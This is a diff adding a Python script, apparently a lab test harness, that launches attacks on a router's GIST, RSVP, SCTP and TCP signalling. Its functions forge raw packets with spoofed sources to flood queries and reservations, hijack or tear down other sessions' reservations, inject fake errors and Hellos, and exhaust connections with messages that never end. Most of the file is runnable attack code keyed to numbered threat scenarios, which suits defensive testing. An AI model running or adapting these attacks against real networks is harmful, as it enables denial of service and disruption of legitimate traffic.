@@ -1,0 +1,358 @@
+#!/usr/bin/env python3
+"""Attacks for the scenarios hostile-*: packets with any source by a raw socket, and peers that do not behave.
+
+    attack.py KIND SECONDS RATE TARGET [ARGUMENT ...]
+
+TARGET is the router; what else an attack needs is at its function. It prints "started" with the first packet and a line
+with the number of packets at the end. It runs in the network namespaces of the lab only: it needs a raw socket.
+"""
+
+import os
+import random
+import selectors
+import socket
+import struct
+import sys
+import time
+
+MAGIC = bytes.fromhex("4e04bda5")
+GIST, UDP, RSVP = 270, 17, 46
+ALERT = bytes.fromhex("94040000")
+PING, QOS = 32704, 1
+QUERY, RESPONSE, CONFIRM, DATA = 0, 1, 2, 3
+
+rng = random.Random(1)
+
+
+def ip(text):
+    return socket.inet_aton(text)
+
+
+def checksum(octets):
+    octets += b"\0" * (len(octets) % 2)
+    total = sum(struct.unpack(f"!{len(octets) // 2}H", octets))
+    while total >> 16:
+        total = (total & 0xFFFF) + (total >> 16)
+    return total ^ 0xFFFF
+
+
+def packet(src, dst, protocol, payload, ttl=64, alert=False):
+    options = ALERT if alert else b""
+    words = 5 + len(options) // 4
+    length = words * 4 + len(payload)
+    head = struct.pack("!BBHHHBBH4s4s", 0x40 | words, 0, length, 0, 0, ttl, protocol, 0, src, dst) + options
+    return head[:10] + struct.pack("!H", checksum(head)) + head[12:] + payload
+
+
+def udp(payload, sport=GIST, dport=GIST):
+    return struct.pack("!HHHH", sport, dport, 8 + len(payload), 0) + payload
+
+
+def forged():
+    """An address of 198.18.0.0/15 (RFC 2544)."""
+    return struct.pack("!I", 0xC6120000 | rng.getrandbits(17))
+
+
+# GIST (RFC 5971)
+
+
+def gist(kind, objects, nslp, flags, c=0x80):
+    body = b"".join(struct.pack("!HH", number, len(value) // 4) + value for number, value in objects)
+    return MAGIC + struct.pack("!BBHHBB", 1, 64, len(body) // 4, nslp, c | kind, flags) + body
+
+
+def mri(src, dst, port=None):
+    """A flow downstream; with a port a flow of UDP."""
+    if port is None:
+        return struct.pack("!BxBB4s4sBBxx", 0, 0x40, 0, src, dst, 32, 32)
+    return struct.pack("!BxBB4s4sBBBBHH", 0, 0x48, 0x60, src, dst, 32, 32, UDP, 0, 0, port)
+
+
+def nli(address, identity=None):
+    return struct.pack("!BBBxI", 4, 64, 0x40, 30000) + (identity or rng.randbytes(4)) + address
+
+
+def query(src, dst, address=None, identity=None, session=None, nslp=PING):
+    objects = [
+        (0, mri(src, dst)),
+        (1, session or rng.randbytes(16)),
+        (2, nli(address or src, identity)),
+        (5, rng.randbytes(8)),
+    ]
+    return gist(QUERY, objects, nslp, 0x40)
+
+
+def reserve(rate):
+    """A RESERVE with a QSPEC for controlled load of so many octets a second (RFC 5974, RFC 5975)."""
+    tmod = struct.pack("!HHfffII", 0x8001, 5, rate, 3000.0, float("inf"), 1, 1500)
+    qspec = struct.pack("!II", 7, 6) + tmod
+    objects = [
+        (2, struct.pack("!I", 1) + rng.randbytes(4)),
+        (1, rng.randbytes(4)),
+        (3, struct.pack("!I", 30000)),
+        (11, qspec),
+    ]
+    body = b"".join(struct.pack("!HH", kind, len(value) // 4) + value for kind, value in objects)
+    return struct.pack("!BBH", 1, 1, 0) + body
+
+
+# RSVP (RFC 2205)
+
+
+def rsvp(kind, objects, ttl=63):
+    body = b"".join(struct.pack("!HBB", 4 + len(value), cls, ctype) + value for cls, ctype, value in objects)
+    return struct.pack("!BBHBBH", 0x10, kind, 0, ttl, 0, 8 + len(body)) + body
+
+
+def session(dst, port):
+    return (1, 1, dst + struct.pack("!BBH", UDP, 0, port))
+
+
+def hop(address, handle=0):
+    return (3, 1, address + struct.pack("!I", handle))
+
+
+def tspec(rate):
+    return struct.pack("!HHBBHBBHfffII", 0, 7, 1, 0, 6, 127, 0, 5, rate, 3000.0, float("inf"), 64, 1500)
+
+
+def flowspec(rate):
+    return struct.pack("!HHBBHBBHfffII", 0, 7, 5, 0, 6, 127, 0, 5, rate, 3000.0, float("inf"), 64, 1500)
+
+
+def sender(src, port=4000):
+    return src + struct.pack("!HH", 0, port)
+
+
+def path(src, dst, port, previous, ttl=63, period=30000):
+    objects = [
+        session(dst, port),
+        hop(previous, 7),
+        (5, 1, struct.pack("!I", period)),
+        (11, 1, sender(src)),
+        (12, 2, tspec(1000.0)),
+    ]
+    return rsvp(1, objects, ttl)
+
+
+def resv(src, dst, port, next_hop, handle, rate, style=0x0A, period=30000):
+    objects = [
+        session(dst, port),
+        hop(next_hop, handle),
+        (5, 1, struct.pack("!I", period)),
+        (8, 1, struct.pack("!I", style)),
+        (9, 2, flowspec(rate)),
+    ]
+    if style == 0x0A:
+        objects.append((10, 1, sender(src)))
+    return rsvp(2, objects, 255)
+
+
+def error(kind, src, dst, port, node, code):
+    objects = [session(dst, port), (6, 1, node + struct.pack("!BBH", 0, code, 0))]
+    if kind == 3:
+        objects += [(11, 1, sender(src)), (12, 2, tspec(1000.0))]
+    else:
+        objects[1:1] = [hop(node, 0)]
+        objects += [(8, 1, struct.pack("!I", 0x0A)), (9, 2, flowspec(1000.0)), (10, 1, sender(src))]
+    return rsvp(kind, objects, 255)
+
+
+def srefresh(group, count):
+    entries = b"".join(struct.pack("!I", number) + group + group for number in range(count))
+    return rsvp(15, [(25, 4, struct.pack("!I", 7) + entries)], 1)
+
+
+# Attacks. Each is a generator of IP packets.
+
+
+def queries(target, dst):
+    """Queries with forged sources for a flow to DST (T11)."""
+    while True:
+        src = forged()
+        yield packet(src, ip(dst), UDP, udp(query(src, ip(dst))), alert=True)
+
+
+def nobody(target, dst, network):
+    """Queries whose NLI has an address of the /24 NETWORK that no host has (T12)."""
+    net = ip(network)[:3]
+    while True:
+        address = net + bytes([rng.randrange(20, 250)])
+        yield packet(address, ip(dst), UDP, udp(query(address, ip(dst))), alert=True)
+
+
+def reserves(target, dst, near):
+    """RESERVEs in one datagram each: in Q-mode across the router, and explicitly routed to it (T02)."""
+    while True:
+        src = forged()
+        port = rng.randrange(10000, 60000)
+        objects = [
+            (0, mri(src, ip(dst), port)),
+            (1, rng.randbytes(16)),
+            (2, nli(src)),
+            (8, reserve(1000.0)),
+        ]
+        yield packet(src, ip(dst), UDP, udp(gist(DATA, objects, QOS, 0)), alert=True)
+        yield packet(src, ip(near), UDP, udp(gist(DATA, objects, QOS, 0xA0, 0)))
+
+
+def paths(target, dst, previous):
+    """Paths of many senders to DST, from a neighbour PREVIOUS (T09)."""
+    while True:
+        src = forged()
+        port = rng.randrange(10000, 60000)
+        yield packet(src, ip(dst), RSVP, path(src, ip(dst), port, ip(previous)), 63, True)
+
+
+def steal(target, dst, router, previous):
+    """Path and Resv of a reservation that the receiver never asked for, by the wrong interface (T04), with long
+    lifetimes; and a tear, errors, Hellos and summaries about it (T03, T05, T06, T07, T18)."""
+    while True:
+        src, port = forged(), rng.randrange(10000, 10100)
+        yield packet(src, ip(dst), RSVP, path(src, ip(dst), port, ip(router), period=0x7FFFFFFF), 63, True)
+        for handle in range(5):
+            message = resv(src, ip(dst), port, ip(dst), handle, 9e6, period=0x7FFFFFFF)
+            yield packet(ip(dst), ip(target), RSVP, message, 255)
+            yield packet(ip(previous), ip(target), RSVP, resv(src, ip(dst), port, ip(previous), handle, 9e6, 0x11), 255)
+        for kind in (3, 4):
+            for source in (router, dst, previous):
+                message = error(kind, src, ip(dst), port, ip(source), rng.randrange(1, 26))
+                yield packet(ip(source), ip(target), RSVP, message, 255)
+        hello = rsvp(20, [(22, 1, struct.pack("!II", rng.getrandbits(31) + 1, 0))], 1)
+        yield packet(ip(dst), ip(target), RSVP, hello, 1)
+        yield packet(ip(previous), ip(target), RSVP, hello, 1)
+        yield packet(ip(previous), ip(target), RSVP, srefresh(ip(dst), 100), 1)
+
+
+def tears(target, dst, source, port):
+    """PathTears and ResvTears of an honest session, with its addresses, by a link that is not its own (T06)."""
+    while True:
+        objects = [session(ip(dst), int(port)), hop(ip(source), 0)]
+        yield packet(ip(source), ip(dst), RSVP, rsvp(5, [*objects, (11, 1, sender(ip(source)))], 63), 63, True)
+        for handle in range(4):
+            objects = [
+                session(ip(dst), int(port)),
+                hop(ip(dst), handle),
+                (8, 1, struct.pack("!I", 0x0A)),
+                (10, 1, sender(ip(source))),
+            ]
+            yield packet(ip(dst), ip(target), RSVP, rsvp(6, objects, 255), 255)
+
+
+def inits(target):
+    """INITs of SCTP with forged sources (T17)."""
+    table = []
+    for number in range(256):
+        for _ in range(8):
+            number = (number >> 1) ^ (0x82F63B78 if number & 1 else 0)
+        table.append(number)
+
+    def crc(octets):
+        value = 0xFFFFFFFF
+        for octet in octets:
+            value = (value >> 8) ^ table[(value ^ octet) & 0xFF]
+        return struct.pack("<I", value ^ 0xFFFFFFFF)
+
+    while True:
+        chunk = struct.pack("!BBHIIHHI", 1, 0, 20, rng.getrandbits(32) | 1, 65536, 10, 10, 7)
+        head = struct.pack("!HHI", rng.randrange(1024, 65535), GIST, 0)
+        yield packet(forged(), ip(target), 132, head + crc(head + b"\0\0\0\0" + chunk) + chunk)
+
+
+def send(source, seconds, rate):
+    raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
+    raw.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 1 << 20)
+    begin, sent, refused = time.monotonic(), 0, 0
+    print("started", flush=True)
+    while (elapsed := time.monotonic() - begin) < seconds:
+        while sent < elapsed * rate:
+            octets = next(source)
+            try:
+                raw.sendto(octets, (socket.inet_ntoa(octets[16:20]), 0))
+            except OSError:
+                refused += 1
+            sent += 1
+        time.sleep(0.002)
+    print(f"{sent} packets in {seconds:g} s, {refused} refused")
+
+
+def identities(seconds, rate, target, dst, own):
+    """Handshakes with invented identities from the real address OWN (T13)."""
+    raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
+    answers = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+    answers.bind(("", GIST))
+    answers.setblocking(False)
+    begin, sent, confirmed = time.monotonic(), 0, 0
+    asked = {}
+    print("started", flush=True)
+    while (elapsed := time.monotonic() - begin) < seconds:
+        while sent < elapsed * rate:
+            name, identity = rng.randbytes(16), rng.randbytes(4)
+            asked[name] = identity
+            message = query(ip(own), ip(dst), ip(own), identity, name)
+            raw.sendto(packet(ip(own), ip(dst), UDP, udp(message), alert=True), (dst, 0))
+            sent += 1
+        try:
+            while True:
+                message, (address, _) = answers.recvfrom(2048)
+                confirmed += confirm(answers, message, address, asked, ip(own), ip(dst))
+        except BlockingIOError:
+            time.sleep(0.001)
+    print(f"{sent} Queries in {seconds:g} s, {confirmed} confirmed")
+
+
+def confirm(out, message, address, asked, own, dst):
+    at, found = 12, {}
+    while at + 4 <= len(message):
+        kind, words = struct.unpack("!HH", message[at : at + 4])
+        found[kind & 0xFFF] = message[at + 4 : at + 4 + (words & 0xFFF) * 4]
+        at += 4 + (words & 0xFFF) * 4
+    identity = asked.pop(found.get(1), None)
+    if identity is None or 6 not in found:
+        return 0
+    objects = [(0, mri(own, dst)), (1, found[1]), (2, nli(own, identity)), (6, found[6])]
+    out.sendto(gist(CONFIRM, objects, PING, 0x80, 0), (address, GIST))
+    return 1
+
+
+def connections(seconds, rate, target, *_):
+    """TCP connections to GIST's port that say nothing, as many as stay open, and new ones all the time (T14 to T16)."""
+    selector, opened, refused = selectors.DefaultSelector(), 0, 0
+    begin = time.monotonic()
+    held = []
+    print("started", flush=True)
+    while (elapsed := time.monotonic() - begin) < seconds:
+        while opened + refused < elapsed * rate:
+            connection = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
+            connection.setblocking(False)
+            result = connection.connect_ex((target, GIST))
+            if result in (0, 115):
+                opened += 1
+                held.append(connection)
+                if opened % 2:
+                    # The beginning of a message of 65,536 octets that never ends.
+                    selector.register(connection, selectors.EVENT_WRITE)
+            else:
+                refused += 1
+        for key, _ in selector.select(0):
+            selector.unregister(key.fileobj)
+            try:
+                key.fileobj.send(struct.pack("!BBHHBB", 1, 64, 0x3FFF, PING, DATA, 0) + os.urandom(60000))
+            except OSError:
+                pass
+        while len(held) > 900:
+            held.pop(0).close()
+        time.sleep(0.002)
+    print(f"{opened} connections in {seconds:g} s, {refused} refused")
+
+
+def main():
+    kind, seconds, rate, target, *rest = sys.argv[1:]
+    attack = globals()[kind]
+    if kind in ("identities", "connections"):
+        attack(float(seconds), float(rate), target, *rest)
+    else:
+        send(attack(target, *rest), float(seconds), float(rate))
+
+
+main()
